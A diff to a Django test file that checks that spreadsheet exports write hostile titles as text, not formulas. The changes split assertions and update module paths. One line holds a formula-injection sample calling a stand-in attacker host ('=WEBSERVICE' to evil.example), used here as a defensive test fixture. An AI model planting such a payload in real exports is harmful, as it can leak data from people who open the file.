@@ -44,7 +44,8 @@ def test_text_that_begins_like_a_formula_is_written_as_text():
     cells = _cells(workbook_bytes(workbook))
     _assert_text_not_formula(cells, HOSTILE + ["=标题"])
     plain = next(cell for cell in cells if cell.value == "正常文字")
-    assert plain.data_type == "s" and not plain.quotePrefix
+    assert plain.data_type == "s"
+    assert not plain.quotePrefix
 
 
 def test_numbers_and_dates_stay_numbers():
@@ -111,9 +112,9 @@ def test_the_plan_schedule_writes_hostile_titles_as_text(world, client):
 
 @pytest.mark.django_db
 def test_the_work_list_writes_hostile_titles_as_text_and_counts_as_numbers(world, client):
-    from members import work_services as services
-    from members.models import WorkKind
-    from members.tests.factories import REFLECTION_TEXT, WorkMeetingFactory
+    from members.work import services
+    from members.work.models import WorkKind
+    from members.work.tests.factories import REFLECTION_TEXT, WorkMeetingFactory
 
     meeting = WorkMeetingFactory(group=world.groups.bureau)
     work = services.work_create(
@@ -124,9 +125,10 @@ def test_the_work_list_writes_hostile_titles_as_text_and_counts_as_numbers(world
     services.work_accept(work=work, by=world.staff)
     client.force_login(world.staff)
     year = timezone.localdate().year
-    response = client.get(reverse("members:work-export", args=[world.groups.bureau.pk, year, "xlsx"]))
+    response = client.get(reverse("work:work-export", args=[world.groups.bureau.pk, year, "xlsx"]))
     assert response.status_code == 200
     cells = _cells(response.content)
     _assert_text_not_formula(cells, ["=WEBSERVICE(\"http://evil.example\")"])
     words = next(cell for cell in cells if cell.column == 11 and cell.row > 2)  # the word count
-    assert words.data_type == "n" and words.value == work.word_count
+    assert words.data_type == "n"
+    assert words.value == work.word_count
